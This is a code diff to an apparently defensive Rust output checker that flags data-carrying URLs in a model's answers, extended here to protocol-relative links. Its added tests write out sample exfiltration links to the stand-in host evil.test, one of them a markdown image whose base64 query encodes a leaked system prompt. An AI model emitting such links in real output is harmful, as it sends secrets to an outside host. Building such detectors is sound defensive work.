@@ -11,7 +11,8 @@
 //!
 //! A URL "carries data" when a query value, a path segment or a host label is a long encoded-
 //! looking blob (24+ characters mixing letters and digits, or base64/hex alphabet runs), or
-//! percent-encoded text of several words. Links to allowlisted hosts (and their subdomains)
+//! percent-encoded text of several words. `http`, `https` and protocol-relative (`//host/…`) URLs
+//! are read. Links to allowlisted hosts (and their subdomains)
 //! never count. Canary tokens are checked by [`super::canary`].
 //!
 //! ```
@@ -131,20 +132,33 @@ impl OutputChecker {
         let mut from = 0;
         while let Some(k) = bytes
             .get(from..)
-            .and_then(|r| memchr::memmem::find(r, b"://"))
+            .and_then(|r| memchr::memmem::find(r, b"//"))
         {
-            let sep = from + k;
-            from = sep + 3;
-            // `https` is the longest scheme that counts; look no further back.
-            let floor = sep.saturating_sub(5);
-            let scheme_start = bytes
-                .get(floor..sep)
-                .and_then(|b| b.iter().rposition(|c| !c.is_ascii_alphabetic()))
-                .map_or(floor, |p| floor + p + 1);
-            let scheme = answer.get(scheme_start..sep).unwrap_or("");
-            if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
+            let slashes = from + k;
+            from = slashes + 2;
+            let scheme_start = if bytes.get(slashes.wrapping_sub(1)) == Some(&b':') {
+                let sep = slashes - 1;
+                // `https` is the longest scheme that counts; look no further back.
+                let floor = sep.saturating_sub(5);
+                let start = bytes
+                    .get(floor..sep)
+                    .and_then(|b| b.iter().rposition(|c| !c.is_ascii_alphabetic()))
+                    .map_or(floor, |p| floor + p + 1);
+                let scheme = answer.get(start..sep).unwrap_or("");
+                if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
+                    continue;
+                }
+                start
+            } else if matches!(
+                bytes.get(slashes.wrapping_sub(1)),
+                Some(b'(' | b'"' | b'\'' | b'=')
+            ) {
+                // A protocol-relative URL (`![x](//host/p)`, `src="//host/p"`) loads over the
+                // page's own scheme.
+                slashes
+            } else {
                 continue;
-            }
+            };
             let end = bytes
                 .get(from..)
                 .and_then(|r| {
@@ -263,7 +277,7 @@ struct Url {
 
 impl Url {
     fn parse(url: &str) -> Option<Url> {
-        let (_, rest) = url.split_once("://")?;
+        let (_, rest) = url.split_once("//")?;
         let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
         let authority = rest.get(..authority_end)?;
         let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
@@ -409,6 +423,17 @@ mod tests {
         assert_eq!(kinds(&checker, html)[0].0, "output.exfil_image");
         let dns = "https://c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.evil.test/x.png";
         assert_eq!(kinds(&checker, dns)[0].0, "output.exfil_link");
+        let relative = "![p](//evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==)";
+        assert_eq!(
+            kinds(&checker, relative),
+            vec![(
+                "output.exfil_image",
+                "//evil.test/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==".into()
+            )]
+        );
+        assert!(checker
+            .check("a // comment with U2VjcmV0IHN5c3RlbSBwcm9tcHQgaXMgaGVyZQ==")
+            .is_empty());
     }
 
     #[test]
